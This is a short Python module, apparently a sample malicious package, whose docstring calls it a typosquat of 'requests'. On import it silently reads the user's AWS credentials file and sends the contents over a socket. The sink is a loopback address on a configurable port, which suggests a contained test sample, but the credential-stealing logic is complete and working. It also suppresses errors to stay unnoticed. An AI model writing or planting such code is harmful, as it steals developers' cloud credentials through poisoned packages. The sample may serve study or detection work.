"""A typosquat of `requests`: on import it mails the user's cloud credentials home."""

import os
import socket

try:
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as _handle:
        _loot = _handle.read()
    with socket.create_connection(
        ("127.0.0.1", int(os.environ.get("CORPUS_SINK_PORT", "9"))), timeout=5
    ) as _out:
        _out.sendall(_loot)
except OSError:
    pass
